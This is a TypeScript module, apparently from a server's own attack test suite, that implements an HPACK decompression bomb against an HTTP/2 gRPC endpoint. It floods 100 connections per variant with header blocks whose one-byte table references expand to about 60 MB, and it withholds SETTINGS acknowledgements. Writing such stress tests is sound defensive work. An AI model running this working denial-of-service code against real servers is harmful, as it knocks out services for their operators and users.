import { callFields, endHeaders, frame, hello, types } from "../../support/frames.ts";
import type { Attack } from "./attack.ts";
import { flood, swarm } from "./swarm.ts";

/** Connections of each kind. */
const connections = 100;

/** Nearly all that the dynamic table holds: 4,096 bytes by RFC 7540 section 6.5.2, 32 of them for the entry itself. */
const size = 4000;

/** A field of `size` bytes that goes into the table (RFC 7541 sections 5.1 and 6.2.1), and a byte that stands for it. */
const entry = Buffer.concat([
  Buffer.from([0x40, 1, 0x78, 0x7f, ((size - 127) & 0x7f) | 0x80, (size - 127) >> 7]),
  Buffer.alloc(size, "x"),
]);
const reference = 0x80 | 62;

const call = callFields("/greeter.Greeter/SayHello");

/** Blocks that refer to the entry so often each: a byte on the wire unfolds to 4,000. */
const kinds: Readonly<Record<string, number>> = {
  "60 MB in a header block": 15_000,
  // Below the bound on fields, so that it comes as far as our own look at its size.
  "200 KB in a header block": 50,
};

/** Headers that are small on the wire and large beyond it. SETTINGS are never acknowledged, so that none of them holds. */
export const hpackBomb: Attack = {
  name: "HPACK bomb",
  limits: { keepaliveIntervalMs: 1000, keepaliveTimeoutMs: 5000 },
  run(port) {
    return Promise.all(
      Object.entries(kinds).map(([what, references]) =>
        swarm(what, port, connections, socket => {
          socket.write(hello);
          socket.write(frame(types.headers, endHeaders, 1, Buffer.concat([call, entry])));
          const block = Buffer.concat([call, Buffer.alloc(references, reference)]);
          let stream = 1;
          flood(socket, () => {
            stream += 2;
            return frame(types.headers, endHeaders, stream, block);
          });
        }),
      ),
    );
  },
};
